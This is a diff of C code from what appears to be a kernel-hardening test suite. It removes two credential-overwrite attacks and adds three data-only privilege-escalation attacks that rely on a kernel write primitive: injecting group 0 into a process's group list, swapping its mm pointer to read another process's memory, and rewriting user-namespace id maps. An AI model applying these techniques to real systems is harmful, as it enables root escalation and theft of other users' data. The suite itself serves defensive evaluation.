@@ -3,69 +3,20 @@
  * Attacks that leave page tables alone. They land whether tables are
  * protected or not, and stay here to say so.
  */
+#include <fcntl.h>
+#include <sched.h>
 #include <string.h>
 #include <sys/mman.h>
+#include <sys/stat.h>
+#include <sys/uio.h>
 #include <sys/wait.h>
 #include <unistd.h>
 
 #include "attack.h"
+#include "creds.h"
+#include "files.h"
 #include "list.h"
-
-#define CRED_IDS	8	/* uid, gid, suid, sgid, euid, egid, fsuid, fsgid */
-
-enum outcome task_cred_pointer(void)
-{
-	uint64_t init_cred = ksymbol("init_cred");
-	int uid = getuid(), now, err;
-	struct task task;
-
-	if (ktask(0, &task) || !init_cred)
-		return broken("init_cred not found");
-	err = kwrite64(task.cred_slot, init_cred);
-	err = err ?: kwrite64(task.real_cred_slot, init_cred);
-	now = getuid();
-	/* exit() would drop references that were never taken. */
-	kwrite64(task.real_cred_slot, task.cred);
-	kwrite64(task.cred_slot, task.cred);
-	if (err || now)
-		return lost("store gave %d, uid=%d", err, now);
-	return won("task->cred set to init_cred: uid=%d became uid=%d", uid, now);
-}
-
-/* Where the first id is, by its value: no offset to be known. */
-static uint64_t find_ids(uint64_t cred)
-{
-	unsigned int ids[64];
-	size_t i, n;
-
-	kread(cred, ids, sizeof(ids));
-	for (i = 0; i + CRED_IDS <= sizeof(ids) / sizeof(ids[0]); i++) {
-		for (n = 0; n < CRED_IDS && ids[i + n] == ATTACKER_UID; n++)
-			;
-		if (n == CRED_IDS)
-			return cred + i * sizeof(ids[0]);
-	}
-	return 0;
-}
-
-enum outcome live_cred(void)
-{
-	static const unsigned int zeros[CRED_IDS];
-	int uid = getuid(), err;
-	struct task task;
-	uint64_t ids;
-
-	if (ktask(0, &task))
-		return broken("no cred found");
-	ids = find_ids(task.cred);
-	if (!ids)
-		return broken("no ids found in struct cred");
-	err = kwrite(ids, zeros, sizeof(zeros));
-	if (err || getuid())
-		return lost("store gave %d, uid=%d", err, getuid());
-	return won("own struct cred overwritten: uid=%d became uid=%d euid=%d", uid,
-		   getuid(), geteuid());
-}
+#include "objects.h"
 
 /*
  * After fork() a page is shared until somebody writes. The flag "belongs to
@@ -122,4 +73,144 @@ enum outcome page_struct(void)
 		return lost("the parent's page still says %s", (char *)page);
 	return won("after one flag in struct page, a child's write changed its parent's private memory to \"%s\"",
 		   (char *)page);
+}
+
+/* ---- what credentials are held against, or lead to ---- */
+
+#define ROOT_FILE	"/tmp/root-file"
+#define ROOT_TEXT	"root and its group may read this"
+
+/* struct group_info: usage, number, groups */
+#define GROUPS_NR	1
+#define GROUPS_FIRST	2
+
+void root_file_create(void)
+{
+	int fd;
+
+	unlink(ROOT_FILE);
+	fd = open(ROOT_FILE, O_WRONLY | O_CREAT | O_EXCL, 0660);
+	if (fd < 0 || write(fd, ROOT_TEXT, strlen(ROOT_TEXT)) < 0 || fchmod(fd, 0660))
+		_exit(1);
+	close(fd);
+}
+
+bool root_file_says(char *text, size_t size)
+{
+	return file_read(ROOT_FILE, text, size) > 0 && !strncmp(text, ROOT_TEXT, strlen(ROOT_TEXT));
+}
+
+/* What the credentials point to that has one group, the attacker's. */
+static uint64_t find_groups(uint64_t cred)
+{
+	uint64_t words[CRED_SIZE / sizeof(uint64_t)];
+	uint32_t groups[3];
+	size_t i;
+
+	if (kread(cred, words, sizeof(words)))
+		return 0;
+	for (i = 0; i < sizeof(words) / sizeof(*words); i++)
+		if (is_kernel_address(words[i]) && !kread(words[i], groups, sizeof(groups)) &&
+		    groups[GROUPS_NR] == 1 && groups[GROUPS_FIRST] == ATTACKER_UID)
+			return words[i] + GROUPS_FIRST * sizeof(*groups);
+	return 0;
+}
+
+enum outcome group_list(void)
+{
+	uint32_t root = 0, own = ATTACKER_UID;
+	struct task task;
+	char text[64];
+	uint64_t at;
+	bool may;
+	int err;
+
+	at = ktask(0, &task) ? 0 : find_groups(task.cred);
+	if (!at || root_file_says(text, sizeof(text)))
+		return broken("no groups found, or the file is everybody's");
+	err = kwrite(at, &root, sizeof(root));
+	may = root_file_says(text, sizeof(text));
+	kwrite(at, &own, sizeof(own));
+	if (!may)
+		return lost("store gave %d, %s is not read", err, ROOT_FILE);
+	return won("group 0 written into the list that own credentials point to: %s says \"%s\"",
+		   ROOT_FILE, text);
+}
+
+/* ---- whose memory a task has ---- */
+
+#define TASK_SIZE	4096	/* as much of it as has its mm */
+
+/* Nobody is asked for the right to read one's own memory. Nothing may fault in between. */
+enum outcome task_mm(void)
+{
+	char text[SECRET_SIZE] = "";
+	struct iovec to = { text, SECRET_SIZE }, from = { (void *)victim_secret(), SECRET_SIZE };
+	struct task own, other;
+	uint64_t slot;
+	int err;
+
+	slot = ktask(0, &own) || ktask(victim_pid(), &other) ? 0 :
+	       find_word(own.task, TASK_SIZE, own.mm);
+	if (!slot)
+		return broken("no pointer to own memory found");
+	process_vm_readv(getpid(), &to, 1, &to, 1, 0);
+	err = kwrite64(slot, other.mm);
+	process_vm_readv(getpid(), &to, 1, &from, 1, 0);
+	kwrite64(slot, own.mm);
+	return judge_secret(text, err);
+}
+
+/* ---- whom a namespace of one's own has ---- */
+
+#define UID_MAP		"/proc/self/uid_map"
+#define GID_MAP		"/proc/self/gid_map"
+#define MAP_TEXT	"0 1000 1"	/* nobody but the attacker */
+#define MAPS_SIZE	256		/* of both, with which a namespace begins */
+#define NR_MAPS		2
+#define ALL_IDS		65536
+
+/* Where both have their first entry; returns how many there are. */
+static int find_maps(uint64_t ns, uint64_t *maps)
+{
+	uint32_t words[MAPS_SIZE / sizeof(uint32_t)];
+	int i, nr = 0;
+
+	if (kread(ns, words, sizeof(words)))
+		return 0;
+	for (i = 0; i + 3 <= MAPS_SIZE / (int)sizeof(*words) && nr < NR_MAPS; i++)
+		if (!words[i] && words[i + 1] == ATTACKER_UID && words[i + 2] == 1)
+			maps[nr++] = ns + i * sizeof(*words);
+	return nr;
+}
+
+static int set_maps(const uint64_t *maps, uint32_t lower, uint32_t count)
+{
+	uint32_t entry[] = { 0, lower, count };
+	int err = 0, i;
+
+	for (i = 0; i < NR_MAPS; i++)
+		err = err ?: kwrite(maps[i], entry, sizeof(entry));
+	return err;
+}
+
+enum outcome user_ns_map(void)
+{
+	uint64_t slot = enter_namespace(), maps[NR_MAPS];
+	char text[64];
+	bool may;
+	int err;
+
+	if (!slot || file_write(UID_MAP, MAP_TEXT) || file_write("/proc/self/setgroups", "deny") ||
+	    file_write(GID_MAP, MAP_TEXT) || find_maps(kread64(slot), maps) != NR_MAPS)
+		return broken("no namespace of one's own, or no maps found");
+	if (root_file_says(text, sizeof(text)))
+		return broken("the file is everybody's");
+	err = set_maps(maps, 0, ALL_IDS);
+	may = root_file_says(text, sizeof(text));
+	set_maps(maps, ATTACKER_UID, 1);
+	if (!may)
+		return lost("stores gave %d, %s is not read", err, ROOT_FILE);
+	return won("maps of one's own user namespace say that it has everybody: %s says \"%s\"",
+		   ROOT_FILE, text);
 }
